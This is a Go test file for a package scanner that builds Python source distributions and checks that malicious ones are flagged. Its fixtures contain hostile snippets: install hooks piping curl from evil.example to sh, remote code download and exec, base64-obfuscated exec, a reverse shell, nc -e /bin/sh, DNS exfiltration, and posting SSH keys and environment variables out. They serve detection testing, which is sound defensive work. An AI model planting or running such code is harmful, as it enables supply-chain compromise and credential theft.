package pkgscan

import (
	"testing"

	"github.com/aigis-sec/aigis/finding"
)

const benignSetup = `from setuptools import setup, find_packages

with open("README.md") as f:
    long_description = f.read()

setup(
    name="goodpkg",
    version="1.0",
    description="A good package",
    long_description=long_description,
    packages=find_packages(),
    install_requires=["requests>=2"],
)
`

const benignModule = `import requests
import subprocess

def fetch(url):
    return requests.get(url, timeout=10).json()

def version():
    return subprocess.run(["git", "describe"], capture_output=True).stdout
`

const benignPKGINFO = "Metadata-Version: 2.1\nName: goodpkg\nVersion: 1.0\nSummary: A good package\nHome-page: https://github.com/good/goodpkg\n\nLong text.\n"

func TestCases(t *testing.T) {
	tests := []struct {
		name  string
		files []file
		rule  string           // rule that must be found
		sev   finding.Severity // at least this severity
		max   finding.Severity // highest allowed severity of any finding (when rule == "")
	}{
		{name: "benign", files: []file{{"setup.py", benignSetup}, {"PKG-INFO", benignPKGINFO}, {"goodpkg/__init__.py", benignModule}}, max: finding.Medium},
		{name: "cmdclass-install-system", rule: "pkg-install-hook", sev: finding.Critical, files: []file{{"setup.py", `import os
from setuptools import setup
from setuptools.command.install import install

class PostInstall(install):
    def run(self):
        install.run(self)
        os.system("curl http://evil.example/x | sh")

setup(name="evilpkg", version="1.0", cmdclass={"install": PostInstall})
`}}},
		{name: "setup-download-exec", rule: "pkg-setup-code-execution", sev: finding.Critical, files: []file{{"setup.py", `import urllib.request
from setuptools import setup
code = urllib.request.urlopen("http://evil.example/p.py").read()
exec(code)
setup(name="evilpkg", version="1.0")
`}}},
		{name: "init-base64-exec", rule: "pkg-obfuscation", sev: finding.Critical, files: []file{{"setup.py", benignSetup}, {"evilpkg/__init__.py", `import base64
exec(base64.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk="))
`}}},
		{name: "pth-import-system", rule: "pkg-pth-exec", sev: finding.Critical, files: []file{{"setup.py", benignSetup}, {"evil.pth", "import os;os.system('curl http://evil.example | sh')\n"}}},
		{name: "reverse-shell", rule: "pkg-exfiltration", sev: finding.Critical, files: []file{{"evilpkg/__init__.py", `import socket, os, subprocess
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("10.0.0.1", 4444))
os.dup2(s.fileno(), 0)
os.dup2(s.fileno(), 1)
subprocess.call(["/bin/sh", "-i"])
`}}},
		{name: "dns-exfil", rule: "pkg-exfiltration", sev: finding.Critical, files: []file{{"evilpkg/__init__.py", `import socket, getpass
def leak():
    user = getpass.getuser()
    socket.gethostbyname(f"{user}.exfil.attacker.tld")
leak()
`}}},
		{name: "credential-post", rule: "pkg-exfiltration", sev: finding.Critical, files: []file{{"evilpkg/__init__.py", `import os, requests
key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
requests.post("https://evil.example/k", data={"k": key, "env": dict(os.environ)})
`}}},
		{name: "env-post-in-function", rule: "pkg-exfiltration", sev: finding.High, files: []file{{"evilpkg/util.py", `import os, requests
def report():
    requests.post("https://evil.example/e", json=dict(os.environ))
`}}},
		{name: "bundled-elf-sdist", rule: "pkg-bundled-binary", sev: finding.High, files: []file{{"setup.py", benignSetup}, {"evilpkg/bin/helper", elf(2)}}},
		{name: "curl-sh-script", rule: "pkg-bundled-binary", sev: finding.High, files: []file{{"install.sh", "#!/bin/sh\ncurl -fsSL http://evil.example/i | sh\n"}}},
		{name: "build-ext-cmake", max: finding.Medium, files: []file{{"setup.py", `import subprocess
from setuptools import setup, Extension
from setuptools.command.build_ext import build_ext

class CMakeBuild(build_ext):
    def build_extension(self, ext):
        subprocess.check_call(["cmake", ext.sourcedir])

setup(name="goodpkg", ext_modules=[Extension("goodpkg._c", [])], cmdclass={"build_ext": CMakeBuild})
`}, {"PKG-INFO", benignPKGINFO}}},
		{name: "empty-description-with-hook", rule: "pkg-metadata", sev: finding.Medium, files: []file{{"PKG-INFO", "Metadata-Version: 2.1\nName: goodpkg\nVersion: 1.0\n"}, {"setup.py", `from setuptools import setup
from setuptools.command.develop import develop
class D(develop):
    def run(self):
        develop.run(self)
setup(name="goodpkg", cmdclass={"develop": D})
`}}},
		{name: "import-time-command", rule: "pkg-exec-at-import", sev: finding.Critical, files: []file{{"evilpkg/__init__.py", "import subprocess\nsubprocess.Popen(['nc', '-e', '/bin/sh', 'evil', '1'])\n"}}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			p := sdist(t, t.TempDir(), "goodpkg-1.0.tar.gz", tt.files)
			fs := scan(t, p)
			if testing.Verbose() {
				dump(t, fs)
			}
			if tt.rule == "" {
				if s, ok := worst(fs, ""); ok && s > tt.max {
					dump(t, fs)
					t.Fatalf("worst severity %s, want at most %s", s, tt.max)
				}
				return
			}
			if s, ok := worst(fs, tt.rule); !ok || s < tt.sev {
				dump(t, fs)
				t.Fatalf("%s: got %v (found %v), want at least %s", tt.rule, s, ok, tt.sev)
			}
		})
	}
}
